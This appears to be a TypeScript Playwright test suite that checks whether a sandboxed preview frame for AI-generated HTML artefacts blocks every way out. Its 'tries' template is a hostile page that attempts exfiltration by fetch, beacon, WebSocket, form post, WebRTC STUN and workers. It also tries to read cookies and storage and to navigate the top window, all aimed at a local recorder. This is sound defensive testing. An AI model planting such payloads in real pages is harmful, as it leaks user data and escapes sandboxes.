// Previews of what the agent made: whatever a page in them tries, nothing leaves, and nothing of the app is in reach.

import { createSocket, type Socket as UdpSocket } from 'node:dgram';
import { createServer, type Server } from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { frameHeaders } from '#main/platform/base/page.ts';
import { findings } from '../support/axe.ts';
import { hasChromium, launchBrowser, openPage, shoot } from '../support/browser.ts';
import { connectTo, type LimpetConnection, sayAndWait } from '../support/client.ts';
import { type RunningGateway, startGateway } from '../support/gateway.ts';
import { type LimpetPage, toLimpetPage } from '../support/limpet-page.ts';
import { type ModelServer, startModelServer } from '../support/model-server.ts';

/** Records every connection and request, whatever it asks for. */
async function startRecorder() {
  const hits: string[] = [];
  let plain = '';
  const sockets = new Set<Socket>();
  const server: Server = createServer((request, response) => {
    if (request.url === '/plain') return void response.setHeader('content-type', 'text/html').end(plain);
    hits.push(`${request.method} ${request.url}`);
    response.setHeader('access-control-allow-origin', '*').end('hit');
  });
  server.on('connection', (socket) => {
    sockets.add(socket);
    hits.push('connection');
  });
  server.on('upgrade', (request, socket) => {
    hits.push(`UPGRADE ${request.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const udp: UdpSocket = createSocket('udp4');
  udp.on('message', () => hits.push('STUN'));
  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
  return {
    hits,
    url: `http://127.0.0.1:${port}`,
    /** Serves it at /plain, without any policy. */
    servePlain: (html: string) => {
      plain = html;
    },
    stun: `stun:127.0.0.1:${udp.address().port}`,
    close: () => {
      udp.close();
      for (const socket of sockets) socket.destroy();
      server.close();
    },
  };
}
type Recorder = Awaited<ReturnType<typeof startRecorder>>;

const peer = (stun: string) =>
  `const p = new RTCPeerConnection({ iceServers: [{ urls: '${stun}' }] }); p.createDataChannel('a'); p.createOffer().then((o) => p.setLocalDescription(o));`;

/** One try for each way out; each names itself in the address, so that a hit says which one it was. */
const tries = (o: { url: string; stun: string }, goes: boolean) => `
<meta http-equiv="refresh" content="2; url=${o.url}/meta-refresh">
<link rel="prefetch" href="${o.url}/prefetch"><link rel="preload" as="image" href="${o.url}/preload">
<link rel="preconnect" href="${o.url}"><link rel="stylesheet" href="${o.url}/style"><link rel="icon" href="${o.url}/icon">
<img src="${o.url}/img"><img srcset="${o.url}/srcset 2x"><video poster="${o.url}/poster" src="${o.url}/video"></video>
<iframe src="${o.url}/iframe"></iframe><object data="${o.url}/object"></object><embed src="${o.url}/embed">
<form id="form" action="${o.url}/form" method="post"><input name="a" value="secret"></form>
<a id="link" href="${o.url}/link" ping="${o.url}/ping" target="_blank">link</a>
<div style="background:url(${o.url}/css)"></div><script src="${o.url}/script"></script>
<iframe srcdoc="<script>fetch('${o.url}/srcdoc');${peer(o.stun)}</script>"></iframe>
<script>
const said = {};
const attempt = (name, act) => { try { said[name] = String(act()); } catch (error) { said[name] = 'refused ' + error.name; } };
attempt('fetch', () => { fetch('${o.url}/fetch').catch(() => {}); });
attempt('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', '${o.url}/xhr'); x.send(); });
attempt('websocket', () => { new WebSocket('${o.url.replace('http', 'ws')}/websocket'); });
attempt('events', () => { new EventSource('${o.url}/events'); });
attempt('beacon', () => navigator.sendBeacon('${o.url}/beacon', 'secret'));
attempt('open', () => window.open('${o.url}/open'));
attempt('parent', () => window.parent.document.title);
attempt('storage', () => localStorage.getItem('a'));
attempt('session', () => sessionStorage.getItem('a'));
attempt('cookie', () => document.cookie);
attempt('database', () => { indexedDB.open('a'); });
attempt('worker', () => { new Worker(URL.createObjectURL(new Blob(["fetch('${o.url}/worker')"]))); });
attempt('link', () => { document.getElementById('link').click(); });
attempt('import', () => { import('${o.url}/import').catch(() => {}); });
attempt('image', () => { new Image().src = '${o.url}/new-image'; });
attempt('font', () => { new FontFace('a', 'url(${o.url}/font)').load().catch(() => {}); });
attempt('rtc', () => { ${peer(o.stun)} });
attempt('frame-rtc', () => {
  const frame = document.createElement('iframe');
  frame.srcdoc = "<script>${peer(o.stun)}<" + "/script>";
  document.body.append(frame);
});
attempt('blank-rtc', () => {
  const frame = document.createElement('iframe');
  document.body.append(frame);
  const RTCPeerConnection = frame.contentWindow.RTCPeerConnection;
  ${peer(o.stun)}
});
attempt('text-rtc', () => {
  const div = document.createElement('div');
  div.innerHTML = '<iframe srcdoc="<script>${peer(o.stun).replaceAll("'", '&#39;')}<' + '/script>"></iframe>';
  document.body.append(div);
});
attempt('origin', () => window.origin);
// What goes elsewhere comes last, for it would end the rest.
setTimeout(() => { try { document.getElementById('form').submit(); } catch {} }, 1000);
document.title = 'tried';
const told = ['origin', 'parent', 'storage', 'session', 'cookie', 'database', 'open'].map((name) => [name, said[name]]);
window.parent.postMessage({ limpet: 'failed', message: JSON.stringify(Object.fromEntries(told)) }, '*');
${goes ? `setTimeout(() => { try { location.href = '${o.url}/self'; } catch {} }, 1200);` : ''}
setTimeout(() => { try { window.top.location = '${o.url}/top'; } catch {} }, 1400);
</script>`;

/** Where the way out is only looked up or opened, there is nothing more to see than a connection. */
const fires = [
  'img',
  'fetch',
  'xhr',
  'websocket',
  'beacon',
  'iframe',
  'style',
  'script',
  'css',
  'srcdoc',
  'new-image',
  'link',
  'prefetch',
];

describe.skipIf(!hasChromium)('an artefact', () => {
  let browser: Browser;
  let gateway: RunningGateway;
  let model: ModelServer;
  let client: LimpetConnection;
  let limpet: LimpetPage;
  let recorder: Recorder;
  beforeAll(async () => {
    browser = await launchBrowser();
    recorder = await startRecorder();
    model = await startModelServer();
    gateway = await startGateway({ environment: model.environment });
    client = connectTo(gateway.dataFolder);
    await client.api.settings.set({ patch: { onboarded: true } });
    limpet = toLimpetPage(await openPage(browser, gateway.signIn));
  });
  afterAll(async () => {
    client.close();
    recorder.close();
    await browser.close();
    await gateway.stop();
    await model.stop();
  });

  const panelOf = (page: Page) => page.getByRole('complementary', { name: 'Beside the chat' });
  const frameOf = (page: Page) => page.frames().find((frame) => frame.url().includes('/frames/'));
  async function show(inputs: readonly object[]): Promise<void> {
    const { id } = await client.api.sessions.create({ title: 'Previews' });
    model.play([{ calls: inputs.map((input) => ({ name: 'show_artefact', input })) }, { text: 'There it is.' }]);
    await sayAndWait(client, id, { text: 'Show it' });
    await limpet.page.goto(`${gateway.url}/#/chat/${id}`);
    await limpet.page.getByText('There it is.').waitFor();
    await limpet.page.keyboard.press('ControlOrMeta+Shift+E');
    await panelOf(limpet.page).getByRole('heading').first().waitFor();
  }

  it('lets nothing out and reaches nothing of the app [T13]', async () => {
    let loads = 0;
    limpet.page.on('request', (request) => {
      if (request.url().includes('/frames/')) loads += 1;
    });
    await show([{ kind: 'html', title: 'Tries', content: tries(recorder, false) }]);
    const report = limpet.page.getByText(/could not be drawn/);
    await report.waitFor();
    const said = JSON.parse((await report.innerText()).replace(/^[^{]*/, '').replace(/[^}]*$/, ''));
    await limpet.page.waitForTimeout(4_000); // the refresh and the navigation of itself come late
    expect(loads).toBe(1);
    expect(said.origin).toBe('null');
    for (const name of ['parent', 'storage', 'session', 'cookie', 'database'])
      expect(said[name], name).toMatch(/^refused/);
    expect(said.open).toBe('null');
    expect(recorder.hits).toEqual([]);
    expect(limpet.page.url()).toContain(gateway.url);
    expect(limpet.page.context().pages()).toHaveLength(1);
  });

  it('that goes elsewhere itself is stopped before a word is said: a connection is opened, nothing is asked [T13]', async () => {
    await show([{ kind: 'html', title: 'Goes', content: tries(recorder, true) }]);
    await limpet.page.waitForTimeout(4_000);
    expect(recorder.hits.filter((hit) => hit !== 'connection')).toEqual([]);
    expect(limpet.page.url()).toContain(gateway.url);
  });

  it('would get out everywhere without that policy, so the tries are real [T13]', async () => {
    const page = await (await browser.newContext()).newPage();
    const outside = await startRecorder();
    const origin = await startRecorder();
    origin.servePlain(tries(outside, true));
    await page.goto(`${origin.url}/plain`);
    await page.waitForTimeout(3_000);
    const missing = fires.filter((name) => !outside.hits.some((hit) => hit.includes(`/${name}`)));
    await page.context().close();
    outside.close();
    origin.close();
    expect(missing).toEqual([]);
    expect(outside.hits).toContain('STUN');
  });

  it('is served with a policy that sandboxes it, whoever asks', async () => {
    const response = await fetch(`${gateway.url}/frames/page.html`);
    expect(response.headers.get('content-security-policy')).toBe(frameHeaders['content-security-policy']);
    expect(response.headers.get('set-cookie')).toBeNull();
  });

  it('is drawn: page, drawing, diagram, chart with its numbers, table, text', async () => {
    const { page } = limpet;
    const rows = Array.from({ length: 5_000 }, (_, row) => `${row},${row * 2}`).join('\n');
    await show([
      { kind: 'html', title: 'A page', content: '<h1 id="h">Tides</h1><script>h.textContent += " today"</script>' },
      {
        kind: 'svg',
        title: 'A lamp',
        content: '<svg viewBox="0 0 10 10" width="200"><circle cx="5" cy="5" r="4"/></svg>',
      },
      { kind: 'mermaid', title: 'A way', content: 'graph TD; Harbour-->Sea; Sea-->Island' },
      {
        kind: 'chart',
        title: 'Heights',
        content: JSON.stringify({
          type: 'line',
          labels: ['00:00', '06:12', '12:40'],
          series: [{ name: 'Cuxhaven', values: [1.2, 4.1, 0.9] }],
          y: { label: 'height', unit: 'm' },
        }),
      },
      { kind: 'csv', title: 'Numbers', content: `n,twice\n${rows}` },
      { kind: 'markdown', title: 'Words', content: '# Tides\n\n| a | b |\n|---|---|\n| 1 | 2 |' },
    ]);
    const choose = (label: string) => page.getByRole('combobox', { name: 'Which preview' }).selectOption({ label });
    await choose('A page');
    await page.frameLocator('iframe').getByText('Tides today').waitFor();
    await choose('A lamp');
    await page.frameLocator('iframe').locator('circle').waitFor();
    await choose('A way');
    await page.frameLocator('iframe').getByText('Harbour').first().waitFor();
    await shoot(page, 'artefact-mermaid');
    await choose('Heights');
    await page.frameLocator('iframe').locator('canvas').waitFor();
    await page.getByRole('table', { name: 'Numbers of Heights' }).getByText('4.1').waitFor();
    await shoot(page, 'artefact-chart');
    expect(await findings(page)).toEqual([]);
    await page.emulateMedia({ colorScheme: 'dark' });
    for (const [label, drawn] of [
      ['A way', 'svg'],
      ['Heights', 'canvas'],
    ] as const) {
      await choose(label);
      const frame = page.frameLocator('iframe');
      await frame.locator(drawn).first().waitFor();
      await shoot(page, `artefact-dark-${drawn}`);
      expect(await frame.locator(':root').evaluate((root) => getComputedStyle(root).colorScheme)).toBe('dark');
    }
    await page.emulateMedia({ colorScheme: 'light' });
    await choose('Numbers');
    await page.getByText('5,000 rows').waitFor();
    expect(await page.getByRole('row').count()).toBeLessThan(120);
    await shoot(page, 'artefact-table');
    await choose('Words');
    await panelOf(page).getByRole('heading', { name: 'Tides', exact: true }).waitFor();
    expect(await findings(page)).toEqual([]);
    expect(frameOf(page)).toBeUndefined();
  });

  it('keeps its versions, each to be seen, with its source', async () => {
    const { page } = limpet;
    await show([{ kind: 'markdown', title: 'Plan', content: 'first plan' }]);
    const sessions = (await client.api.sessions.list({})).sessions;
    const id = sessions.find((one) => page.url().includes(one.id))?.id;
    if (id === undefined) throw new Error('no session');
    let artefactId = '';
    for await (const { data } of client.api.artefacts.watch({ sessionId: id })) {
      artefactId = data.artefacts[0]?.id ?? '';
      break;
    }
    model.play([
      {
        calls: [
          { name: 'show_artefact', input: { kind: 'markdown', title: 'Plan', content: 'second plan', id: artefactId } },
        ],
      },
      { text: 'Changed.' },
    ]);
    await sayAndWait(client, id, { text: 'Change it' });
    const panel = panelOf(page);
    await panel.getByText('second plan').waitFor();
    await panel.getByRole('combobox', { name: 'Version' }).selectOption({ index: 1 });
    await panel.getByText('first plan').waitFor();
    await panel.getByRole('button', { name: 'Show the source' }).click();
    await panel.locator('pre').getByText('first plan').waitFor();
    expect(
      limpet.problems.filter(
        (problem) => !/Blocked|Unsafe attempt|Refused|violates|Content Security|ERR_|Failed to/.test(problem),
      ),
    ).toEqual([]);
  });
});
